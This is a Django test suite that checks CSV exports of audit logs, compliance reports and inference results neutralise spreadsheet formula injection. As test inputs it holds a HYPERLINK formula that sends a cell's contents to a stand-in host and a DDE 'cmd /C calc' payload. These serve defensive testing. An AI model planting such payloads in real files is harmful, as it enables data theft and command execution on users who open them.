"""CSV formula injection: text an outsider controls never reaches a CSV cell as a spreadsheet formula.

One table of inputs checks the Python rule and its PostgreSQL twin (used by COPY) alike; then the attacks are made
from outside — a User-Agent and a username sent without credentials, a text sent for inference — and the CSV files
an officer downloads are read back. JSON Lines keeps the exact values (and so verifies against the hashes).
"""

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.utils import timezone
from rest_framework.test import APIClient

from apps.audit.export import EXPORT_FIELDS, _csv_block, _rows, export_chunks
from apps.audit.hashing import changes_text, event_hash
from apps.audit.models import AuditEvent
from apps.compliance.choices import ReportFormat, ReportKind
from apps.compliance.rendering import render
from apps.compliance.reports import REPORT_BUILDERS, ReportParams, Section
from apps.core.csv_cells import CSV_CELL_SQL_FUNCTION, FORMULA_PREFIXES, SafeCsvWriter, csv_cell
from apps.registry.inference import inference_job_run
from apps.registry.services import model_register
from tests.audit.test_audit_api import _export
from tests.compliance.test_compliance_api import _body, _download, _generated
from tests.registry.test_registry_api import _ready_version
from tests.registry_models import build_tiny_classifier

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/?a="&A1,"click")'
CALC = "+cmd|' /C calc'!A0"

# (text cell, as it must be written to CSV): the one table both implementations are checked against.
CELLS = [
    (HYPERLINK, "'" + HYPERLINK),
    (CALC, "'" + CALC),
    ("=1+1", "'=1+1"),
    ("-2+3", "'-2+3"),
    ("-0.5", "'-0.5"),  # text that looks like a number is still text: OWASP neutralises every leading "-"
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    ("'=1+1", "'=1+1"),  # already shown as text by a spreadsheet: not quoted twice
    (" =1+1", " =1+1"),
    ("a=1+1", "a=1+1"),
    ('say "hi", =1', 'say "hi", =1'),
    ("ünïcode = fine", "ünïcode = fine"),
    ("", ""),
    (None, None),
]


def _sql_cell(value):
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {CSV_CELL_SQL_FUNCTION}(%s::text)", [value])
        return cursor.fetchone()[0]


@pytest.mark.parametrize("implementation", [csv_cell, _sql_cell], ids=["python", "postgresql"])
@pytest.mark.parametrize(("cell", "written"), CELLS, ids=[repr(cell) for cell, _ in CELLS])
def test_python_and_postgresql_neutralise_the_same_cells(implementation, cell, written):
    assert implementation(cell) == written


def test_every_formula_prefix_is_in_the_shared_table():
    assert {cell[0] for cell, written in CELLS if cell and written != cell} == set(FORMULA_PREFIXES)


def test_numbers_written_as_numbers_stay_numbers_while_the_same_text_is_neutralised():
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow([-0.5, -3, "-0.5"])
    assert buffer.getvalue() == "-0.5,-3,'-0.5\r\n"

    out = io.BytesIO()
    section = Section(name="scores", title="Scores", columns=["score", "label"], rows=[[-0.5, "-0.5"]])
    render([section], "csv", out, {})
    assert out.getvalue().decode().splitlines() == ["score,label", "-0.5,'-0.5"]


# --- From outside: an anonymous client with a formula for a User-Agent and a formula for a username


@pytest.fixture
def anonymous_attack():
    """An unauthenticated API read and a failed login, both with a formula User-Agent; the login as a formula."""
    start = timezone.now() - timedelta(seconds=1)
    attacker = Client(HTTP_USER_AGENT=HYPERLINK)
    assert attacker.get("/api/v1/audit/events/").status_code in (401, 403)
    attacker.post("/accounts/login/", {"username": CALC, "password": "wrong"})
    assert AuditEvent.objects.filter(action="auth.login.failed", user_agent=HYPERLINK, object_repr=CALC).exists()
    return start


def _csv_records(content: bytes) -> list[dict]:
    header, *rows = csv.reader(io.StringIO(content.decode(), newline=""))
    return [dict(zip(header, row, strict=True)) for row in rows]


def _assert_no_formula_cells(records: list[dict]) -> None:
    formulas = [value for record in records for value in record.values() if value.startswith(FORMULA_PREFIXES)]
    assert formulas == []


def test_anonymous_formula_user_agent_is_neutralised_in_the_audit_csv_export(anonymous_attack, compliance_user):
    response, content = _export(compliance_user, {"format": "csv"})

    assert response.status_code == 200
    records = _csv_records(content)
    [failed] = [record for record in records if record["action"] == "auth.login.failed"]
    assert (failed["user_agent"], failed["object_repr"]) == ("'" + HYPERLINK, "'" + CALC)
    assert json.loads(failed["changes"]) == {"username": CALC}  # JSON text starts with "{": left as it is
    _assert_no_formula_cells(records)


def test_jsonl_export_keeps_the_exact_formula_and_verifies_against_the_hash(anonymous_attack, compliance_user):
    response, content = _export(compliance_user, {"format": "jsonl", "action_prefix": "auth.login.failed"})

    assert response.status_code == 200
    [record] = [json.loads(line) for line in content.decode().splitlines()]
    assert (record["user_agent"], record["object_repr"]) == (HYPERLINK, CALC)
    values = {**record, "ip": record["ip"] or "", "changes_text": changes_text(record["changes"])}
    assert event_hash(values) == record["hash"]


def test_copy_and_the_python_fallback_write_the_same_neutralised_audit_csv(anonymous_attack):
    # PostgreSQL writes the export with COPY; SQLite (the embedded mode) formats the same rows in Python.
    events = AuditEvent.objects.all()
    written_by_copy = b"".join(export_chunks(events, "csv"))
    written_in_python = ",".join(EXPORT_FIELDS).encode() + b"\r\n" + _csv_block(list(_rows(events))).encode()

    assert _csv_records(written_by_copy) == _csv_records(written_in_python)
    assert f"'{HYPERLINK}".replace('"', '""').encode() in written_by_copy


@pytest.fixture
def report_files(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def _report_csv(api_client, user, kind: str, start) -> bytes:
    body = _body(kind=kind, fmt=ReportFormat.CSV, start=start, end=timezone.now())
    return _download(api_client, _generated(api_client, user, body))


@pytest.mark.usefixtures("report_files")
def test_failed_login_as_a_formula_is_neutralised_in_the_authentication_report(
    anonymous_attack, api_client, compliance_user
):
    content = _report_csv(api_client, compliance_user, ReportKind.AUTHENTICATION, anonymous_attack)

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        by_user = _csv_records(archive.read("by_user.csv"))
        everything = [record for name in archive.namelist() for record in _csv_records(archive.read(name))]
    assert [record["username"] for record in by_user] == ["'" + CALC]
    assert by_user[0]["failed_logins"] == "1"
    _assert_no_formula_cells(everything)


@pytest.mark.usefixtures("report_files")
def test_formula_user_agent_is_neutralised_in_the_audit_trail_report(anonymous_attack, api_client, compliance_user):
    content = _report_csv(api_client, compliance_user, ReportKind.AUDIT_TRAIL, anonymous_attack)

    records = _csv_records(content)
    [failed] = [record for record in records if record["action"] == "auth.login.failed"]
    assert (failed["user_agent"], failed["object_repr"]) == ("'" + HYPERLINK, "'" + CALC)
    _assert_no_formula_cells(records)


def test_the_audit_trail_report_written_in_python_matches_the_one_postgresql_writes(anonymous_attack):
    params = ReportParams(ReportKind.AUDIT_TRAIL, anonymous_attack, timezone.now())
    by_copy, in_python = io.BytesIO(), io.BytesIO()
    render(REPORT_BUILDERS[ReportKind.AUDIT_TRAIL](params), "csv", by_copy, {})
    sections = [
        Section(**{**vars(section), "csv_rows": None}) for section in REPORT_BUILDERS[ReportKind.AUDIT_TRAIL](params)
    ]
    render(sections, "csv", in_python, {})

    assert _csv_records(by_copy.getvalue()) == _csv_records(in_python.getvalue())
    assert any(record["user_agent"] == "'" + HYPERLINK for record in _csv_records(in_python.getvalue()))


# --- Inference results


@pytest.fixture
def sentiment(operator_user, tmp_path, registry_storage):
    model = model_register(owner=operator_user, name="sentiment", task="text-classification")
    folder = build_tiny_classifier(tmp_path / "classifier", labels=("negative", "positive"))
    _ready_version(model, folder, operator_user)
    return model


@pytest.mark.parametrize(
    ("fmt", "upload", "parse", "text"),
    [
        ("csv", 'text\n"=1+1"\n', _csv_records, "'=1+1"),
        ("jsonl", '{"text": "=1+1"}\n', lambda data: [json.loads(line) for line in data.decode().splitlines()], "=1+1"),
    ],
    ids=["csv", "jsonl"],
)
def test_inference_text_formula_is_neutralised_in_csv_results_and_exact_in_jsonl(
    sentiment, operator_user, fmt, upload, parse, text
):
    operator = APIClient()
    operator.force_authenticate(operator_user)
    file = SimpleUploadedFile(f"inputs.{fmt}", upload.encode(), content_type="text/plain")
    created = operator.post(
        "/api/v1/registry/inference-jobs/", {"file": file, "model": "sentiment", "version": 1}, format="multipart"
    )
    assert created.status_code == 201, created.content
    # The task's body, run here: the test transaction never commits, so nothing was enqueued.
    inference_job_run(job_id=created.json()["id"], task_id="task-1", worker="here")
    download = operator.get(f"/api/v1/registry/inference-jobs/{created.json()['id']}/result/")

    assert download.status_code == 200
    [row] = parse(b"".join(download.streaming_content))
    assert row["text"] == text
    assert 0 <= float(row["score"]) <= 1
